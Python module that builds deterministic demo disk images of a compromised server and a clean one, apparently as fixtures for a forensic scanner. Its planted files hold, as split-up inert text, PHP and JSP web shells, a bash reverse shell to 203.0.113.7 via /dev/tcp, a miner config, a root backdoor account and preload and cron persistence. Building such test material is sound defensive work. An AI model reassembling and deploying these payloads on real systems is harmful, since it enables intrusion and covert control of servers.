"""Builds the demo disks: a small server that somebody broke into, and one that is all right. `python -m demo.disk --help`.

Needs no root and no external program, takes about a second, and gives the same bytes every time. Everything that looks
like malware is text that nobody runs, and stands here in pieces so that no scanner finds it in this file.
Sources: UEFI specification, "GUID Partition Table (GPT) Disk Layout"; LUKS2 On-Disk Format Specification; mkswap(8).
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import stat
import struct
import sys
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import BinaryIO
from uuid import UUID

from demo.ext4 import Node, Options, write

MIB = 1 << 20
SECTOR = 512
TIME = 1_767_225_600  # 2026-01-01 00:00 UTC: when all of it was made
_LINUX = UUID("0FC63DAF-8483-4772-8E79-3D69D8477DE4")
_SWAP = UUID("0657FD6D-A4AB-43C4-84E5-0933C84B4F4F")
_LUKS = UUID("CA7D7CCB-63ED-4C53-861C-1742536059CC")

PLANTED: tuple[bytes, ...] = (
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/ld.so.preload",
    b"/etc/cron.d/backup",
    b"/etc/systemd/system/updater.service",
    b"/var/www/html/uploads/cache.php",
    b"/var/www/html/shell.jsp",
    b"/home/ci/eicar.com",
    b"/var/lib/postgresql/.ssh/authorized_keys",
    b"/usr/local/bin/.update.sh",
    b"/opt/.cache/config.json",
)
"""Files of `build` that a scan should say something about, on partition 1. One more has no name: `DELETED`."""


def _pieces(*pieces: str) -> str:
    return "".join(pieces)


def _elf() -> bytes:
    """The header of an x86-64 executable without segments: recognised as ELF, and refused by every kernel."""
    ident = b"\x7fELF" + bytes([2, 1, 1]).ljust(12, b"\0")
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0)


DELETED = _elf() + b"demo: a program that was deleted while it still ran\n" * 200
"""The content of the deleted file of `build`, still allocated when the snapshot was taken."""


@dataclass(frozen=True)
class Partition:
    """`start` and `size` in bytes, both whole MiB."""

    name: str
    kind: UUID
    start: int
    size: int


PLANTED_DATA: tuple[bytes, ...] = (b"/uploads/invoice.jsp",)
"""The same of `build_data`."""


def build(path: Path, *, size: int = 96 * MIB, changes: Iterable[Node] = ()) -> None:
    """Write the disk of a server with problems to `path`: ext4 root, ext4 data, swap, LUKS2. `size` in bytes, sparse.

    `changes` are made to the root filesystem: a file takes the place of the one with its path, or is added; as little as
    possible of the disk differs by it. Overwrites what is there. Raises `OSError`; `ValueError` if something does not fit.
    """
    _check_size(size, 96 * MIB)
    partitions = (
        Partition("root", _LINUX, 1 * MIB, 48 * MIB),
        Partition("data", _LINUX, 49 * MIB, 16 * MIB),
        Partition("swap", _SWAP, 65 * MIB, 8 * MIB),
        Partition("vault", _LUKS, 73 * MIB, 22 * MIB),
    )
    root, data, swap, vault = partitions
    with path.open("wb") as out:
        _gpt(out, size, partitions)
        _ext4(out, root, _changed(_with_parents(_replaced(_server(), _planted())), changes))
        _ext4(out, data, _with_parents(_data()))
        _at(out, swap.start, _swap_header(swap.size, _uuid("swap space").bytes))
        _at(out, vault.start, _luks_headers(str(_uuid("vault contents"))))


def build_clean(path: Path, *, size: int = 64 * MIB, changes: Iterable[Node] = ()) -> None:
    """Write the disk of a server that is all right to `path`: one ext4 partition. As `build` for all else."""
    _check_size(size, 64 * MIB)
    root = Partition("root", _LINUX, 1 * MIB, 62 * MIB)
    with path.open("wb") as out:
        _gpt(out, size, (root,))
        _ext4(out, root, _changed(_with_parents(_server()), changes))


def build_data(path: Path, *, size: int = 32 * MIB, changes: Iterable[Node] = ()) -> None:
    """Write a data disk to `path`: ext4 without a partition table, a web shell among the uploads. As `build` for all else.

    The filesystem takes the first 32 MiB, as on a disk that was made larger later.
    """
    _check_size(size, 32 * MIB)
    whole = Partition("volume", _LINUX, 0, 32 * MIB)
    jsp = next(node for node in _planted() if node.path.endswith(b".jsp"))
    nodes = [*_data(), replace(jsp, path=PLANTED_DATA[0])]
    with path.open("wb") as out:
        out.truncate(size)
        _ext4(out, whole, _changed(_with_parents(nodes), changes))


def file(path: bytes, content: str | bytes, mode: int = 0o644, uid: int = 0, gid: int = 0) -> Node:
    """A regular file. Its time depends on nothing but its path: a change of content alone does not show in it."""
    return _file(path, content, mode, uid, gid)


def _check_size(size: int, least: int) -> None:
    if size < least or size % MIB:
        raise ValueError(f"the disk has {least} bytes or more, in whole MiB")


def _changed(nodes: list[Node], changes: Iterable[Node]) -> list[Node]:
    """`nodes` with `changes`; what is new comes last, so that what is old keeps its inodes and blocks."""
    by_path = {node.path: node for node in changes}
    known = {node.path for node in nodes}
    kept = [by_path.get(node.path, node) for node in nodes]
    new = _with_parents([node for path, node in by_path.items() if path not in known])
    return [*kept, *(node for node in new if node.path not in known)]


def _ext4(out: BinaryIO, partition: Partition, nodes: Sequence[Node]) -> None:
    label = f"demo-{partition.name}".encode()
    # groups of 16 MiB, so that a small disk has several of them, as real ones have
    options = Options(partition.size, _uuid(f"{partition.name} filesystem"), TIME, label, wide=True, group_blocks=4096)
    write(out, nodes, options, start=partition.start)


def _uuid(name: str) -> UUID:
    """A version 4 UUID that is always the same for `name`."""
    return UUID(bytes=hashlib.sha256(f"kumomori demo: {name}".encode()).digest()[:16], version=4)


def _at(out: BinaryIO, offset: int, data: bytes) -> None:
    out.seek(offset)
    out.write(data)


def _gpt(out: BinaryIO, size: int, partitions: Sequence[Partition]) -> None:
    """Give `out` its size in bytes and write the protective MBR and both partition tables."""
    out.truncate(size)
    last = size // SECTOR - 1
    entries = bytearray()
    for partition in partitions:
        first = partition.start // SECTOR
        entries += partition.kind.bytes_le + _uuid(f"{partition.name} partition").bytes_le
        entries += struct.pack("<QQQ", first, first + partition.size // SECTOR - 1, 0)
        entries += partition.name.encode("utf-16-le").ljust(72, b"\0")
    table = bytes(entries.ljust(128 * 128, b"\0"))
    # one partition of type EE over all of the disk, so that old tools keep off; heads and cylinders mean nothing
    mbr = struct.pack("<B3sB3sII", 0, b"\0\2\0", 0xEE, b"\xff\xff\xff", 1, last)
    _at(out, 446, mbr)
    _at(out, 510, b"\x55\xaa")
    for here, there, table_at in ((1, last, 2), (last, 1, last - 32)):
        fields = struct.pack("<QQQQ", here, there, 34, last - 33) + _uuid("disk").bytes_le
        fields += struct.pack("<QIII", table_at, 128, 128, zlib.crc32(table))
        header = struct.pack("<8sII", b"EFI PART", 0x10000, 92)
        checksum = zlib.crc32(header + bytes(8) + fields)
        _at(out, here * SECTOR, header + struct.pack("<II", checksum, 0) + fields)
        _at(out, table_at * SECTOR, table)


def _swap_header(size: int, uuid: bytes) -> bytes:
    page = 4096
    header = bytes(1024) + struct.pack("<III", 1, size // page - 1, 0) + uuid + b"demo-swap"
    return header.ljust(page - 10, b"\0") + b"SWAPSPACE2"


def _luks_headers(uuid: str) -> bytes:
    """Both LUKS2 headers, with right checksums and no key slot: nothing can be read, not even with a passphrase."""
    segment = {"type": "crypt", "offset": str(16 * MIB), "size": "dynamic", "iv_tweak": "0"}
    segment["encryption"] = "aes-xts-plain64"
    noise = base64.b64encode(hashlib.sha256(uuid.encode()).digest()).decode()
    digest = {"type": "pbkdf2", "keyslots": [], "segments": ["0"], "hash": "sha256", "iterations": 1000}
    area = {
        "keyslots": {},
        "tokens": {},
        "segments": {"0": {**segment, "sector_size": SECTOR}},
        "digests": {"0": {**digest, "salt": noise, "digest": noise}},
        "config": {"json_size": "12288", "keyslots_size": str(16 * MIB - 32768)},
    }
    text = json.dumps(area).encode().ljust(12288, b"\0")
    out = b""
    for magic, offset in ((b"LUKS\xba\xbe", 0), (b"SKUL\xba\xbe", 16384)):
        salt = hashlib.sha512(magic).digest()
        names = struct.pack("<48s32s64s40s48s", b"demo-vault", b"sha256", salt, uuid.encode(), b"")
        header = magic + struct.pack(">HQQ", 2, 16384, 1) + names + struct.pack(">Q", offset) + bytes(184)
        checksum = hashlib.sha256(header.ljust(4096, b"\0") + text).digest()
        out += (header + checksum).ljust(4096, b"\0") + text
    return out


def _file(path: bytes, content: str | bytes, mode: int = 0o644, uid: int = 0, gid: int = 0) -> Node:
    raw = content.encode() if isinstance(content, str) else content
    # months old, and a fraction of a second of its own for every file: real ones have one, too
    mtime_ns = (TIME - 90 * 86400) * 10**9 + zlib.crc32(path) % 10**9
    return Node(path, stat.S_IFREG | mode, uid, gid, mtime_ns, raw)


def _link(path: bytes, target: bytes) -> Node:
    return Node(path, stat.S_IFLNK | 0o777, mtime_ns=TIME * 10**9, target=target)


def _replaced(nodes: Iterable[Node], by: Iterable[Node]) -> list[Node]:
    """`nodes`, where those of `by` take the place of those with the same path."""
    return list({node.path: node for node in (*nodes, *by)}.values())


def _with_parents(nodes: Sequence[Node]) -> list[Node]:
    """`nodes` and a plain directory for every parent that is none of them."""
    known = {node.path for node in nodes}
    parents: dict[bytes, Node] = {}
    for node in nodes:
        above = b"/" if node.deleted else node.path.rpartition(b"/")[0]
        while above.strip(b"/") and above not in known:
            parents[above] = Node(above, stat.S_IFDIR | 0o755, mtime_ns=TIME * 10**9)
            above = above.rpartition(b"/")[0]
    return [*parents.values(), *nodes]


_USERS = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
postgres:x:114:120:PostgreSQL administrator:/var/lib/postgresql:/bin/bash
ci:x:1000:1000:Build user:/home/ci:/bin/bash
"""
_SHADOW = """root:!:20400:0:99999:7:::
daemon:*:20400:0:99999:7:::
www-data:*:20400:0:99999:7:::
postgres:!:20400:0:99999:7:::
ci:!:20400:0:99999:7:::
"""
_GROUP = "root:x:0:\ndaemon:x:1:\nwww-data:x:33:\nshadow:x:42:\npostgres:x:120:\nci:x:1000:\n"
_OS_RELEASE = 'NAME="Demo Linux"\nID=demo\nVERSION_ID="1"\nPRETTY_NAME="Demo Linux 1"\n'
_SSHD = "PermitRootLogin no\nPasswordAuthentication no\nPubkeyAuthentication yes\nX11Forwarding no\n"
_NGINX = "user www-data;\nevents {}\nhttp {\n  server { listen 80; root /var/www/html; }\n}\n"
_NET_RAW = struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0)  # cap_net_raw=ep, as the kernel keeps it
_DOCUMENTS = (b"README", b"NEWS", b"copyright", b"AUTHORS")


def _server() -> list[Node]:
    """A small web server with nothing wrong."""
    unit = "[Unit]\nDescription=Nightly report\n\n[Service]\nExecStart=/usr/local/bin/report\n"
    nodes = [
        _file(b"/etc/passwd", _USERS),
        _file(b"/etc/shadow", _SHADOW, 0o640, gid=42),
        _file(b"/etc/group", _GROUP),
        _file(b"/etc/hostname", "demo\n"),
        _file(b"/etc/hosts", "127.0.0.1 localhost\n192.0.2.10 demo\n"),
        _file(b"/etc/fstab", "LABEL=demo-root / ext4 defaults 0 1\n"),
        _file(b"/usr/lib/os-release", _OS_RELEASE),
        _link(b"/etc/os-release", b"../usr/lib/os-release"),
        _link(b"/bin", b"usr/bin"),
        _file(b"/etc/ssh/sshd_config", _SSHD),
        _file(b"/etc/nginx/nginx.conf", _NGINX),
        _file(b"/etc/cron.d/report", "15 3 * * * root /usr/local/bin/report\n"),
        _file(b"/etc/systemd/system/report.service", unit),
        _file(b"/usr/local/bin/report", "#!/bin/sh\ndf -h > /var/log/report.log\n", 0o755),
        replace(_file(b"/usr/bin/ping", _elf(), 0o755), xattrs={b"security.capability": _NET_RAW}),
        _file(b"/home/ci/.ssh/authorized_keys", _public_key("ci@build"), 0o600, 1000, 1000),
        replace(_file(b"/home/ci/notes.txt", "ship on Friday\n", 0o644, 1000, 1000), xattrs={b"user.origin": b"mail"}),
        _file(b"/home/ci/r\xe9sum\xe9.txt", "a name in Latin-1\n", 0o644, 1000, 1000),
        _file("/home/ci/\u9727\u306e\u68ee.txt".encode(), "a name in UTF-8\n", 0o644, 1000, 1000),
        _file(b"/home/ci/two\nlines and spaces .txt", "a name with a line break\n", 0o644, 1000, 1000),
        _file(b"/var/www/html/index.html", "<!doctype html><title>Demo</title><p>It works.</p>\n", 0o644, 33, 33),
        replace(_file(b"/usr/share/zoneinfo/UTC", "TZif demo\n"), key="utc"),
        replace(_file(b"/usr/share/zoneinfo/Etc/UTC", ""), key="utc"),
        _link(b"/etc/localtime", b"/usr/share/zoneinfo/UTC"),
    ]
    for number in range(300):
        name = b"/usr/share/doc/package-%03d/%s" % (number // 4, _DOCUMENTS[number % 4])
        nodes.append(_file(name, f"Paragraph {number} of the manual.\n" * (number + 1)))
    for day in range(20):
        lines = "".join(f"192.0.2.{n % 250} GET /index.html 200 {n * 37 % 5000}\n" for n in range(day * 100))
        nodes.append(_file(b"/var/log/nginx/access.log.%d" % day, lines, 0o640, 33))
    return nodes


def _planted() -> list[Node]:
    """What somebody left on the server, as text: none of it works."""
    php = _pieces("<?php if (isset($_GET['c'])) { sys", "tem($_G", "ET['c']); } ?>\n")
    jsp = _pieces(
        "<%@ page import='java.io.*' %>\n<% Runtime.getRun", "time().ex", "ec(request.getParameter('c')); %>\n"
    )
    eicar = _pieces("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAND", "ARD-ANTIVIRUS-TEST-FILE!$H+H*")
    shell = _pieces("#!/bin/bash\nba", "sh -i >& /dev/t", "cp/203.0.113.7/4444 0>&1\n")
    pool = {"url": _pieces("strat", "um+tcp://pool.example.com:3333"), "user": "demo-wallet", "pass": "x"}
    miner = {"autosave": True, _pieces("donate-", "level"): 1, "algo": _pieces("rx", "/0"), "pools": [pool]}
    unit = "[Unit]\nDescription=Updater\n\n[Service]\nExecStart=/usr/local/bin/.update.sh\n"
    return [
        _file(b"/etc/passwd", _USERS + "support:x:0:0::/root:/bin/sh\n"),
        _file(b"/etc/shadow", _SHADOW + "support::20400:0:99999:7:::\n", 0o640, gid=42),
        _file(b"/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n"),
        _file(b"/usr/local/lib/libprocesshider.so", "demo: this stands where a library would that hides processes\n"),
        _file(b"/etc/cron.d/backup", "* * * * * root /usr/local/bin/backup\n", 0o666),
        _file(b"/etc/systemd/system/updater.service", unit, 0o666),
        _file(b"/var/www/html/uploads/cache.php", php, 0o644, 33, 33),
        _file(b"/var/www/html/shell.jsp", jsp, 0o644, 33, 33),
        _file(b"/home/ci/eicar.com", eicar, 0o644, 1000, 1000),
        _file(b"/var/lib/postgresql/.ssh/authorized_keys", _public_key("nobody@example.com"), 0o600, 114, 120),
        _file(b"/usr/local/bin/.update.sh", shell, 0o755),
        _file(b"/opt/.cache/config.json", json.dumps(miner, indent=2)),
        replace(_file(b"/var/cache/.agent", DELETED, 0o755), deleted=True),
    ]


def _data() -> list[Node]:
    rows = "".join(f"{n},{n * n},demo\n" for n in range(20_000))
    return [
        _file(b"/export/table.csv", rows, 0o640, 114, 120),
        _file(b"/export/README", "Squares, for the report.\n"),
        _file(b"/sparse.bin", b"start".ljust(MIB, b"\0") + b"end"),
    ]


def _public_key(comment: str) -> str:
    """A well-formed ed25519 line whose key is a digest of its comment: nobody has the other half."""
    kind = b"ssh-ed25519"
    key = hashlib.sha256(comment.encode()).digest()
    blob = struct.pack(">I", len(kind)) + kind + struct.pack(">I", len(key)) + key
    return f"{kind.decode()} {base64.b64encode(blob).decode()} {comment}\n"


def main(arguments: Sequence[str] | None = None) -> int:
    """Exit code: 0, or 2 if the disk could not be written."""
    parser = argparse.ArgumentParser(prog="python -m demo.disk", description="Write a demo disk to scan (sparse, raw).")
    parser.add_argument("out", type=Path, metavar="OUT", help="the file to write; replaced if it exists")
    parser.add_argument("--clean", action="store_true", help="a server that is all right, instead of one with problems")
    options = parser.parse_args(arguments)
    try:
        (build_clean if options.clean else build)(options.out)
    except OSError as error:
        sys.stderr.write(f"cannot write the disk: {error}\n")
        return 2
    if options.clean:
        what = "one ext4 partition, nothing planted"
    else:
        what = f"ext4 root, ext4 data, swap, LUKS2; {len(PLANTED)} files planted, 1 deleted program"
    sys.stdout.write(f"{options.out}: {options.out.stat().st_size // MIB} MiB: {what}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
